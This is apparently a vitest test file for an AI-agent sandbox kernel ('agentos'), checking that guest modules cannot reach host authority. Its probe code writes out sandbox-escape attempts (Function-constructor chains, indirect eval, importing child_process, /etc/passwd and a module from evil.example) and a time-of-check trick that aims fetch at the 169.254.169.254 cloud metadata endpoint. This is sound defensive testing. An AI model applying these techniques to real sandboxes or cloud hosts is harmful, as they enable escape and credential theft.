/**
 * A guest has no ambient authority: nothing but the kernel's imports, every argument read once,
 * no host detail in what it is told.
 */
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { kernelFor, moduleAgent, policyWith, tempDir } from "./helpers.js";

const dir = tempDir();
const workspace = join(dir.path, "ws");
mkdirSync(workspace);
writeFileSync(join(workspace, "a.txt"), "inside");
const kernel = kernelFor({
  policy: policyWith([
    { id: "ws", action: ["fs.*"], resource: "/workspace/**", effect: "allow" },
    { id: "api", action: "http.fetch", resource: "https://allowed.example/**", effect: "allow" },
  ]),
  mounts: { "/workspace": workspace },
});
afterAll(async () => {
  await kernel.close();
  dir.remove();
});

async function output(source: string, task = ""): Promise<string> {
  const result = await kernel.execute(moduleAgent("probe", source), task);
  if (result.status !== "ok") throw new Error(`${result.status}: ${result.error}`);
  return result.output!;
}

describe("ambient authority", () => {
  it("has only language globals, the Web platform's (pure JS or kernel calls), kernel-backed time and randomness, and timers on the kernel's clock", async () => {
    const names = JSON.parse(await output(`export function run() { return JSON.stringify(Object.getOwnPropertyNames(globalThis).sort()); }`)) as string[];
    const allowed = new Set([
      ...["Object", "Function", "Array", "Number", "parseFloat", "parseInt", "Infinity", "NaN", "undefined", "Boolean", "String", "Symbol", "Date", "Promise", "RegExp", "Error", "AggregateError", "EvalError", "RangeError", "ReferenceError", "SyntaxError", "TypeError", "URIError", "globalThis", "Math", "JSON", "Reflect", "Proxy", "Map", "Set", "WeakMap", "WeakSet", "WeakRef", "FinalizationRegistry", "ArrayBuffer", "SharedArrayBuffer", "DataView", "Atomics", "BigInt", "BigInt64Array", "BigUint64Array", "Int8Array", "Uint8Array", "Uint8ClampedArray", "Int16Array", "Uint16Array", "Int32Array", "Uint32Array", "Float32Array", "Float64Array", "Float16Array", "Iterator", "eval", "isNaN", "isFinite", "decodeURI", "decodeURIComponent", "encodeURI", "encodeURIComponent", "escape", "unescape", "InternalError", "SuppressedError", "DisposableStack", "AsyncDisposableStack", "performance", "queueMicrotask", "structuredClone", "navigator"],
      "crypto",
      // The Web platform (guest-web/): pure JS, or kernel calls (fetch: http.fetch, console: log.write).
      ...["TextEncoder", "TextDecoder", "TextEncoderStream", "TextDecoderStream", "URL", "URLSearchParams", "atob", "btoa", "structuredClone"],
      ...["DOMException", "Event", "EventTarget", "CustomEvent", "AbortController", "AbortSignal", "Blob", "File", "FormData", "console"],
      ...["fetch", "Headers", "Request", "Response", "ReadableStream", "ReadableStreamDefaultReader", "ReadableStreamBYOBReader"],
      ...["ReadableStreamDefaultController", "ReadableByteStreamController", "ReadableStreamBYOBRequest", "WritableStream"],
      ...["WritableStreamDefaultWriter", "WritableStreamDefaultController", "TransformStream", "TransformStreamDefaultController"],
      ...["ByteLengthQueuingStrategy", "CountQueuingStrategy"],
      // Timers on the kernel's clock.
      ...["setTimeout", "setInterval", "clearTimeout", "clearInterval"],
    ]);
    expect(names.filter((n) => !allowed.has(n))).toEqual([]);
    for (const forbidden of ["require", "process", "XMLHttpRequest", "WebSocket", "Deno", "Bun", "__agentos_host", "__agentos_exports", "__agentos_timers", "module", "exports"]) {
      expect(names).not.toContain(forbidden);
    }
  });

  it("cannot reach require, process, Node modules or the host through constructors (fetch is the kernel's)", async () => {
    const report = JSON.parse(
      await output(`
      export async function run() {
        const out = {};
        out.require = typeof require; out.process = typeof process; out.fetch = typeof fetch;
        out.viaFunction = (0, [].constructor.constructor)("return typeof process")();
        out.viaAsync = await (async function(){}).constructor("return typeof process")();
        out.viaGenerator = (function*(){}).constructor("yield typeof process")().next().value;
        out.viaAsyncGenerator = (await (async function*(){}).constructor("yield typeof process")().next()).value;
        out.viaIndirectEval = (0, eval)("typeof process");
        for (const name of ["fs", "node:fs", "child_process", "./x.js", "/etc/passwd", "agentos:kernel/nope", "https://evil.example/x.js"]) {
          try { await import(name); out[name] = "IMPORTED"; } catch (e) { out[name] = String(e.message); }
        }
        return JSON.stringify(out);
      }`),
    ) as Record<string, string>;
    expect(report.require).toBe("undefined");
    expect(report.process).toBe("undefined");
    expect(report.fetch).toBe("function"); // the kernel's http.fetch (test/web)
    for (const route of ["viaFunction", "viaAsync", "viaGenerator", "viaAsyncGenerator", "viaIndirectEval"]) expect(report[route], route).toBe("undefined");
    for (const name of ["fs", "node:fs", "child_process", "./x.js", "/etc/passwd", "agentos:kernel/nope", "https://evil.example/x.js"]) {
      expect(report[name]).toMatch(/cannot import .*an agent can import only/);
    }
  });

  it("reads a guest argument once: a getter that answers differently the second time decides nothing", async () => {
    const result = await kernel.execute(
      moduleAgent(
        "toctou",
        `import { fetch } from "agentos:kernel/http";
        export function run() {
          let reads = 0;
          const req = { method: "GET", headers: [], get url() { reads++; return reads === 1 ? "https://allowed.example/ok" : "http://169.254.169.254/latest/meta-data/"; } };
          try { fetch(req); } catch (e) { }
          return String(reads);
        }`,
      ),
      "",
    );
    expect(result.output).toBe("1");
    const calls = [];
    for await (const e of (await kernel.log).query({ runId: result.runId, type: "call" })) calls.push(e.data);
    expect(calls).toHaveLength(1);
    expect(calls[0]).toMatchObject({ action: "http.fetch", resource: "https://allowed.example/ok" });
    expect(JSON.stringify(calls)).not.toContain("169.254");
  });

  it("refuses arguments of the wrong type without running guest conversions", async () => {
    const out = JSON.parse(
      await output(`
      import { readText } from "agentos:kernel/fs";
      export function run() {
        let conversions = 0;
        const sneaky = { toString() { conversions++; return "/workspace/a.txt"; } };
        const outcomes = [];
        for (const arg of [sneaky, 42, null, undefined, ["/workspace/a.txt"]]) {
          try { readText(arg); outcomes.push("READ"); } catch (e) { outcomes.push(e.payload.tag); }
        }
        return JSON.stringify({ conversions, outcomes });
      }`),
    ) as { conversions: number; outcomes: string[] };
    expect(out.conversions).toBe(0);
    expect(out.outcomes).toEqual(["invalid", "invalid", "invalid", "invalid", "invalid"]);
  });

  it("never tells a guest a host path", async () => {
    const out = await output(`
      import { fs } from "agent-os/guest";
      export async function run() {
        const messages = [];
        for (const p of ["/workspace/missing.txt", "/workspace", "/workspace/a.txt/x", "/elsewhere/x"]) {
          try { await fs.readText(p); } catch (e) { messages.push(String(e.message) + " " + JSON.stringify(e)); }
        }
        return messages.join("\\n");
      }`);
    expect(out.split("\n")).toHaveLength(4);
    expect(out).not.toContain(dir.path);
    expect(out).not.toContain(workspace);
  });

  it("hands the guest its own error objects, and survives whatever the guest throws", async () => {
    const out = await output(`
      import { readText } from "agentos:kernel/fs";
      export function run() {
        try { readText("/nowhere"); } catch (e) {
          return [e instanceof Error, Object.getPrototypeOf(e) === Error.prototype, typeof e.payload, e.constructor.constructor("return typeof process")()].join(",");
        }
      }`);
    expect(out).toBe("true,true,object,undefined");
    const thrown = await kernel.execute(
      moduleAgent("thrower", `export function run() { throw { get name() { throw new Error("gotcha"); }, toString() { return "/host/secret"; } }; }`),
      "",
    );
    expect(thrown.status).toBe("error");
    expect(thrown.error).not.toContain("/host/secret");
    const after = await kernel.execute(moduleAgent("after", `export function run() { return "still serving"; }`), "");
    expect(after.output).toBe("still serving");
  });

  it("replaces Date, Math.random and crypto with the kernel's clock and randomness, recorded in the log", async () => {
    const result = await kernel.execute(
      moduleAgent("time", `export function run() { const b = new Uint8Array(4); crypto.getRandomValues(b); return JSON.stringify([Date.now(), new Date().getFullYear(), Math.random(), b.length]); }`),
      "",
    );
    const [now, year, random] = JSON.parse(result.output!) as number[];
    expect(Math.abs(now - Date.now())).toBeLessThan(60_000);
    expect(year).toBe(new Date().getFullYear());
    expect(random).toBeGreaterThanOrEqual(0);
    expect(random).toBeLessThan(1);
    const actions = [];
    for await (const e of (await kernel.log).query({ runId: result.runId, type: "call" })) actions.push((e.data as { action: string }).action);
    expect(actions).toContain("clock.now");
    expect(actions).toContain("random.bytes");
    expect(readFileSync(join(workspace, "a.txt"), "utf8")).toBe("inside");
  });
});
